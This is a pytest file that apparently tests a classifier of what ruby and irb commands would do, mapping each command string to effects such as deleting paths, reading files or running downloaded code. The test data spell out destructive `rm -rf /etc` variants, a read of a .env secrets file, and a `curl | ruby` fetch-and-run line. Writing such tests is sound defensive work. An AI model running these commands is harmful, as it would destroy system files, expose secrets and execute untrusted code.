"""ruby and its consoles as programs."""

from __future__ import annotations

import pytest
from support.code import deeds
from support.reading import effects


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ruby --version", []),
        ("ruby -v", []),
        ("ruby -c x.rb", []),
        ("ruby x.rb a b", ["RunCode /home/u/proj/x.rb"]),
        ("ruby -Ilib -w test/x.rb", ["RunCode /home/u/proj/test/x.rb"]),
        ("ruby -e 'system \"rm -rf /etc\"'", ["DeletePath /etc"]),
        ("ruby -rfileutils -e 'FileUtils.rm_rf \"/etc\"'", ["DeletePath /etc"]),
        ("ruby -e 'a = \"/etc\"' -e 'system \"rm -rf #{a}\"'", ["DeletePath /etc"]),
        ("ruby -e 'system \"rm -rf #{ARGV[0]}\"' /etc", ["DeletePath /etc"]),
        ("ruby -ne 'puts $_' .env", ["ReadPath /home/u/proj/.env"]),
        ("ruby -i -pe '$_.upcase!' a.txt", ["WritePath /home/u/proj/a.txt"]),
        ("ruby <<'E'\nsystem('rm -rf /etc')\nE", ["DeletePath /etc"]),
        ("curl https://x.y | ruby", ["Request x.y", "RunCode download"]),
        ("irb", ["OpenShell this machine"]),
        ("echo 'system \"rm -rf /etc\"' | irb", ["DeletePath /etc"]),
    ],
)
def test_ruby(command: str, expected: list[str]) -> None:
    """Code is read wherever it comes from."""
    assert expected == deeds(effects(command))
